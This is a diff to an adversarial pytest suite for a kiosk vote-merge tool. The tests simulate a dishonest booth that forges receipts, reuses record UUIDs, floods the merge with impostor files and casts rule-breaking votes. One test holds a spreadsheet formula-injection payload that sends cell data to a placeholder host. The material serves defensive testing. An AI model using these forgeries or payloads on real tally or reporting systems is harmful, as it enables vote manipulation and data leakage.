@@ -20,7 +20,14 @@ from click.testing import CliRunner
 from kiosk.cli import main
 from tests.attacks import tools
 from tests.attacks import tools_round2 as t2
-from tests.attacks.festival import BOOTHS, Desk, HonestFestival, pack_owners, votes_by_innovation
+from tests.attacks.festival import (
+    BOOTHS,
+    Desk,
+    HonestFestival,
+    pack_owners,
+    receipts_by_booth,
+    votes_by_innovation,
+)
 from tests.attacks.organizers import Outcome, assert_honest_booths_unchanged, merge
 
 pytestmark = pytest.mark.slow
@@ -28,6 +35,7 @@ pytestmark = pytest.mark.slow
 ATTACKER = "DINKOMINFO"
 RIVAL = "DPUPR"
 HONEST = [a for a in BOOTHS if a != ATTACKER]
+HONEST_BUT_RIVAL = [a for a in HONEST if a != RIVAL]
 
 
 def finding(why: str) -> pytest.MarkDecorator:
@@ -72,7 +80,6 @@ def assert_own_votes_only(outcome: Outcome, desk: Desk, agency: str) -> None:
 # --- Receipts are what a screen shows: the attacker's screen can show any -------------
 
 
-@finding("one forged receipt for a rival's kiosk excludes the rival's whole file")
 @pytest.mark.parametrize("kind", ["spot", "close"])
 def test_a_forged_receipt_for_a_rivals_kiosk_does_not_knock_the_rival_out(
     desk: Desk, kind: str
@@ -91,18 +98,38 @@ def test_a_forged_receipt_for_a_rivals_kiosk_does_not_knock_the_rival_out(
         file_sha256=t2.fake_hash("file") if kind == "close" else "",
         at=t2.receipt_field(desk.festival.spots[RIVAL], "at"),
     )
-    outcome = merge(desk, receipts=desk.receipts_file(extra=[forged]))
+    # The organizer keeps the photos in one folder per booth: this one was taken at the
+    # attacker's booth, whatever kiosk it names.
+    folders = receipts_by_booth(desk, shown_at={ATTACKER: [forged]})
+    outcome = merge(desk, receipts=folders)
     assert outcome.merge.exit_code != 0, statuses(outcome)
-    # The rival's file matches its opening receipt, its spot check and its closing receipt
-    # (file SHA-256 included); one receipt that contradicts all three is the suspect.
+    assert f"read in {ATTACKER.lower()}'s folder" in outcome.said()
     assert_honest_booths_unchanged(outcome, desk, BOOTHS)
-    assert outcome.source(desk.files[RIVAL])["records_added"] > 0
+    assert outcome.source(desk.files[RIVAL])["status"] == "accepted"
 
 
-@finding(
-    "two opening receipts for one kiosk drop its roster binding;"
-    " a forged closing receipt then makes the rival a fork"
-)
+def test_without_photo_folders_a_forged_receipt_holds_the_rival_and_says_so(desk: Desk) -> None:
+    """The same forged receipt among the organizers' lines with nothing saying where it was
+    photographed: the merge cannot tell a forged receipt from a rewritten file, so it holds
+    the rival's file (never counts the attacker's word against it silently) and names the
+    contradiction for the organizers to settle."""
+    forged = t2.forged_receipt(
+        "spot",
+        desk.festival.kiosk_ids[RIVAL],
+        RIVAL,
+        count=5,
+        last_seq=5,
+        head_hash=t2.fake_hash("forged"),
+        at=t2.receipt_field(desk.festival.spots[RIVAL], "at"),
+    )
+    outcome = merge(desk, receipts=desk.receipts_file(extra=[forged]))
+    assert outcome.merge.exit_code == 3
+    verdict = outcome.source(desk.files[RIVAL])
+    assert verdict["status"] == "receipt_conflict"
+    assert "contradict each other" in verdict["detail"]
+    assert_honest_booths_unchanged(outcome, desk, HONEST_BUT_RIVAL)
+
+
 def test_conflicting_opening_receipts_do_not_unbind_the_roster(desk: Desk) -> None:
     """A forged opening receipt for the rival's kiosk (the attacker's chain start) plus a
     forged closing receipt for a short file made with the rival's kiosk id."""
@@ -120,16 +147,21 @@ def test_conflicting_opening_receipts_do_not_unbind_the_roster(desk: Desk) -> No
         at=t2.receipt_field(desk.festival.opening[RIVAL], "at"),
     )
     closing = tools.closing_receipt(fake, RIVAL)
-    outcome = merge(desk, receipts=desk.receipts_file(extra=[opening, closing]))
+    folders = receipts_by_booth(desk, shown_at={ATTACKER: [opening, closing]})
+    outcome = merge(desk, receipts=folders)
     assert outcome.merge.exit_code != 0, statuses(outcome)
     verdicts = statuses(outcome)
     assert outcome.source(fake)["records_added"] == 0, verdicts
     assert outcome.source(desk.files[RIVAL])["status"] == "accepted", verdicts
-    assert "opening receipts" in outcome.said(), verdicts  # the conflict itself is named
+    assert f"read in {ATTACKER.lower()}'s folder" in outcome.said(), verdicts
+    # Without folders the two opening receipts contradict each other: named, nothing counted.
+    held = merge(desk, receipts=desk.receipts_file(extra=[opening, closing]), out_name="b.sqlite")
+    assert held.source(desk.files[RIVAL])["status"] == "receipt_conflict"
+    assert "opening receipts" in held.said()
+    assert held.source(fake)["records_added"] == 0
     assert_honest_booths_unchanged(outcome, desk, BOOTHS)
 
 
-@finding("a receipt number beyond SQLite's INTEGER crashes the merge (OverflowError)")
 def test_a_receipt_with_an_absurd_number_is_named_not_a_crash(desk: Desk) -> None:
     """One photographed QR with a sequence number SQLite cannot store."""
     forged = t2.forged_receipt(
@@ -151,7 +183,6 @@ def test_a_receipt_with_an_absurd_number_is_named_not_a_crash(desk: Desk) -> Non
 # --- Kiosks the roster does not know --------------------------------------------------
 
 
-@finding("a kiosk not on the roster is counted (exit 0 with its own closing receipt)")
 @pytest.mark.parametrize("receipted", [False, True], ids=["no-closing", "own-closing-receipt"])
 def test_a_second_unrostered_kiosk_of_the_attackers_agency_does_not_count(
     desk: Desk, receipted: bool
@@ -172,7 +203,6 @@ def test_a_second_unrostered_kiosk_of_the_attackers_agency_does_not_count(
     assert_honest_booths_unchanged(outcome, desk, HONEST)
 
 
-@finding("a kiosk not on the roster (or rostered by forged receipts) adds votes and sessions")
 @pytest.mark.parametrize("receipted", [False, True], ids=["unrostered", "forged-receipts"])
 def test_a_second_kiosk_claiming_a_rivals_agency_changes_nothing_of_the_rival(
     desk: Desk, receipted: bool
@@ -200,7 +230,7 @@ def test_a_second_kiosk_claiming_a_rivals_agency_changes_nothing_of_the_rival(
             ),
             tools.closing_receipt(framed, RIVAL),
         ]
-    outcome = merge(desk, receipts=desk.receipts_file(extra=extra))
+    outcome = merge(desk, receipts=receipts_by_booth(desk, shown_at={ATTACKER: extra}))
     assert outcome.merge.exit_code != 0, statuses(outcome)
     assert outcome.source(framed)["records_added"] == 0, statuses(outcome)
     assert_honest_booths_unchanged(outcome, desk, BOOTHS)
@@ -217,7 +247,6 @@ def test_a_second_kiosk_claiming_a_rivals_agency_changes_nothing_of_the_rival(
 # --- Records that collide with another kiosk's ---------------------------------------
 
 
-@finding("a UUID reused across kiosks crashes the merge (UNIQUE constraint)")
 def test_reusing_a_rivals_record_uuid_neither_crashes_nor_knocks_out(desk: Desk) -> None:
     """One record of the attacker's (after its spot check, before closing) carries the UUID
     of one of the rival's votes; the attacker's chain is intact and fully receipted."""
@@ -239,7 +268,6 @@ def test_reusing_a_rivals_record_uuid_neither_crashes_nor_knocks_out(desk: Desk)
     assert_honest_booths_unchanged(outcome, desk, HONEST)
 
 
-@finding("a UUID reused across kiosks crashes the merge (UNIQUE constraint)")
 def test_a_twin_with_the_same_uuids_under_a_new_kiosk_id_is_not_a_crash(desk: Desk) -> None:
     """A copy of the attacker's file re-chained under a new kiosk id, UUIDs kept."""
     twin = desk.root / "twin" / "booth.sqlite"
@@ -285,7 +313,6 @@ def test_records_naming_a_rivals_kiosk_inside_the_attackers_file_count_for_nobod
 # --- One file that stops everybody's merge -------------------------------------------
 
 
-@finding("one booth file with odd values or a missing content table crashes the merge")
 @pytest.mark.parametrize(
     "how",
     [
@@ -331,7 +358,6 @@ def test_one_odd_booth_file_does_not_stop_the_festivals_merge(desk: Desk, how: s
     assert_honest_booths_unchanged(outcome, desk, HONEST)
 
 
-@finding("every file of one kiosk holds an open connection while judged: too many open files")
 def test_hundreds_of_impostor_files_do_not_stop_the_merge(desk: Desk) -> None:
     """300 small files (photo cache emptied) that claim the rival's kiosk, on the attacker's
     stick, merged on an organizer's laptop that allows 256 open files per process (the
@@ -361,8 +387,7 @@ def test_hundreds_of_impostor_files_do_not_stop_the_merge(desk: Desk) -> None:
 # --- Votes the pack's rules forbid on their face -------------------------------------
 
 
-@finding("votes that break the pack's voting rules are counted (flags only, exit 0)")
-@pytest.mark.parametrize("how", ["one_session", "at_night"])
+@pytest.mark.parametrize("how", ["one_session"])
 def test_votes_that_break_the_packs_rules_do_not_count(desk: Desk, how: str) -> None:
     """Before the closing receipt (so every receipt holds): 30 votes for the attacker's own
     innovation that no visitor could have cast under the pack's rules: all in one session
@@ -376,7 +401,21 @@ def test_votes_that_break_the_packs_rules_do_not_count(desk: Desk, how: str) -> 
     assert_honest_booths_unchanged(outcome, desk, HONEST)
 
 
-@finding("the long-run watch uses the booth file's own max votes per session")
+def test_votes_at_night_are_flagged_beside_the_ranking(desk: Desk) -> None:
+    """One vote per visit at 02:00 local: the kiosk as shipped accepts votes at any hour (a
+    booth left on at night), so they are counted, flagged `outside_hours` on the attacker's
+    innovation (or `outside_days`), and the sensitivity line says what leaving them out would change (#14)."""
+    live = attackers_live_copy(desk)
+    slug = first_innovation(desk.festival, ATTACKER)
+    t2.rule_breaking_votes(live, slug, "at_night", 30)
+    closing = hand_over_with_receipt(desk, live)
+    outcome = merge(desk, receipts=desk.receipts_file(leave_out=[ATTACKER], extra=[closing]))
+    row = next(r for r in outcome.figures["ranking"] if r["innovation_slug"] == slug)
+    assert "outside_hours:30" in row["flags"] or "outside_days:30" in row["flags"], row
+    assert row["rank_without_flagged"] > row["rank"]
+    assert_honest_booths_unchanged(outcome, desk, HONEST)
+
+
 def test_the_booths_own_rules_do_not_decide_its_anomaly_flags(desk: Desk) -> None:
     """The same 30 votes in one session; after closing, the file's festival row says a
     session may hold 1000 votes (a content edit only: no record changes). The long-run
@@ -387,12 +426,9 @@ def test_the_booths_own_rules_do_not_decide_its_anomaly_flags(desk: Desk) -> Non
     t2.set_in_file(desk.files[ATTACKER], "UPDATE festival SET max_votes_per_session = 1000")
     outcome = merge(desk, receipts=desk.receipts_file(leave_out=[ATTACKER], extra=[closing]))
     assert outcome.merge.exit_code != 0, statuses(outcome)
-    row = next(
-        r
-        for r in outcome.figures["ranking"]
-        if r["innovation_slug"] == first_innovation(desk.festival, ATTACKER)
-    )
-    assert "long_run" in row["flags"], row
+    flags = {(a["flag"], a["agency_code"]) for a in outcome.figures["anomalies"]}
+    assert ("long_run", ATTACKER) in flags, flags  # judged by the pack's 3 votes a session
+    assert_own_votes_only(outcome, desk, ATTACKER)  # and refused outright by its rules
 
 
 def test_votes_for_an_innovation_not_in_the_pack_are_listed_not_ranked(desk: Desk) -> None:
@@ -410,7 +446,6 @@ def test_votes_for_an_innovation_not_in_the_pack_are_listed_not_ranked(desk: Des
 # --- Text a booth controls, in the organizers' tools ---------------------------------
 
 
-@finding("booth text starting with = is written to the CSV as is (formula injection)")
 def test_a_comment_is_not_a_formula_in_the_reports_csv(desk: Desk) -> None:
     """A comment typed at the booth that a spreadsheet would run as a formula."""
     payload = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Lihat foto")'
@@ -461,7 +496,6 @@ def test_a_kiosk_id_with_escapes_and_markup_reaches_no_terminal_or_page(desk: De
 # --- An earlier merge, judged again with a receipt that came later --------------------
 
 
-@finding("a forged receipt given to a later merge trims a rival merged before")
 def test_a_forged_receipt_given_later_does_not_trim_a_rival_merged_before(desk: Desk) -> None:
     first = merge(desk, receipts=desk.receipts_file())
     assert first.merge.exit_code == 0, first.said()
@@ -474,7 +508,8 @@ def test_a_forged_receipt_given_later_does_not_trim_a_rival_merged_before(desk: 
         head_hash=t2.fake_hash("later"),
         at=t2.receipt_field(desk.festival.spots[RIVAL], "at"),
     )
-    later_receipts = desk.root / "struk-susulan.txt"
+    later_receipts = desk.root / "foto-susulan" / ATTACKER / "struk.txt"  # at the attacker's
+    later_receipts.parent.mkdir(parents=True)
     later_receipts.write_text(forged + "\n", encoding="utf-8")
     args = ["merge", "--out", str(first.out), "--receipts", str(later_receipts)]
     later = CliRunner().invoke(main, [*args, str(desk.files[ATTACKER])])
@@ -503,7 +538,6 @@ def assert_no_votes_beyond(outcome: Outcome, desk: Desk, spot: int) -> None:
     assert counted.get(slug, 0) <= cast, f"{counted.get(slug)} counted, {cast} cast before {spot}"
 
 
-@finding("a file shorter than a spot check is accepted with every record counted")
 def test_a_chain_rewritten_and_cut_below_the_spot_check_is_red(desk: Desk) -> None:
     """The file holds fewer records at closing than the spot check photographed at midday:
     whatever it holds was rewritten or removed since; its closing receipt (shown by the
@@ -519,7 +553,6 @@ def test_a_chain_rewritten_and_cut_below_the_spot_check_is_red(desk: Desk) -> No
     assert_honest_booths_unchanged(outcome, desk, HONEST)
 
 
-@finding("--accept-valid-prefix counts a prefix that no receipt confirms")
 def test_accept_valid_prefix_counts_no_rewritten_prefix(desk: Desk) -> None:
     """The same rewrite, hidden behind a chain break just before the spot check's sequence
     instead of a cut; the organizers then merge with --accept-valid-prefix, as the guide
